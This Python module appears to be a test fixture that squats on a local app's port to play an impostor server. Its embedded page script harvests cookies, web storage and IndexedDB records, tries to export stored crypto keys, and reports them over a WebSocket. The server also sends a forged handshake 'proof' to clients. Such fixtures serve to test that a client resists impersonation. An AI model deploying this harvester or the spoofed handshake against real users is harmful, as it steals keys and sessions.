"""A program that listens at the explorer's port in its stead, and notes all that a browser gives it."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http import HTTPStatus

from websockets.datastructures import Headers
from websockets.exceptions import ConnectionClosed
from websockets.http11 import Request, Response
from websockets.sync.server import ServerConnection, serve

# It reads whatever a page of this origin can read, and reports it.
_PAGE = """<!doctype html><title>squatter</title><script>
(async () => {
  const stored = JSON.stringify({ ...localStorage, ...sessionStorage });
  const found = [location.href, document.cookie, document.referrer, stored];
  const hex = (bytes) => Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, "0")).join("");
  const database = await new Promise((resolve) => {
    const opening = indexedDB.open("mandelcl");
    opening.onsuccess = () => resolve(opening.result);
    opening.onerror = () => resolve(null);
  });
  for (const store of database?.objectStoreNames ?? []) {
    const all = await new Promise((resolve) => {
      const request = database.transaction(store).objectStore(store).getAll();
      request.onsuccess = () => resolve(request.result);
    });
    for (const one of all) {
      found.push(`${store}: ${JSON.stringify(one)} ${one}`);
      for (const format of ["raw", "jwk"]) {
        const exported = crypto.subtle.exportKey(format, one);
        found.push(await exported.then(
          (key) => key instanceof ArrayBuffer ? hex(key) : JSON.stringify(key),
          (error) => `not exported: ${error.name}`));
      }
    }
  }
  const socket = new WebSocket(`ws://${location.host}/report`);
  socket.onopen = () => socket.send(JSON.stringify({ report: found }));
  socket.onmessage = () => { document.title = "reported"; };
})();
</script>"""


@dataclass
class Squatter:
    """What it has been given: requests, and messages on sockets."""

    heard: list[str] = field(default_factory=list)
    proofs: list[str] = field(default_factory=list)
    reports: list[list[str]] = field(default_factory=list)

    def request(self, _connection: ServerConnection, request: Request) -> Response | None:
        """Note a request, and answer it with the page that spies."""
        self.heard.append(f"{request.path} {request.headers}")
        if request.headers.get("Upgrade", "").lower() == "websocket":
            return None
        headers = Headers({"Content-Type": "text/html", "Connection": "close"})
        return Response(HTTPStatus.OK.value, "OK", headers, _PAGE.encode())

    def talk(self, socket: ServerConnection) -> None:
        """Ask for a proof as a server does, claim to be one, and note what comes."""
        try:
            socket.send(json.dumps({"say": "hello", "protocol": 2, "nonce": "ab" * 16}))
            for message in socket:
                self.heard.append(str(message))
                reported = json.loads(message)
                if "report" in reported:
                    self.reports.append(reported["report"])
                    socket.send("{}")
                    continue
                self.proofs.append(str(message))
                lie = {"say": "proved", "with": "run", "proof": "00" * 32, "run": "00" * 32, "kept": "00" * 32}
                for one in (lie, {"say": "welcome"}):
                    socket.send(json.dumps(one))
        except (ConnectionClosed, ValueError):
            return


@contextmanager
def squatting(port: int) -> Iterator[Squatter]:
    """Yield a squatter at a port of this machine."""
    squatter = Squatter()
    with serve(squatter.talk, "127.0.0.1", port, process_request=squatter.request, compression=None) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield squatter
        finally:
            server.shutdown()
            thread.join()
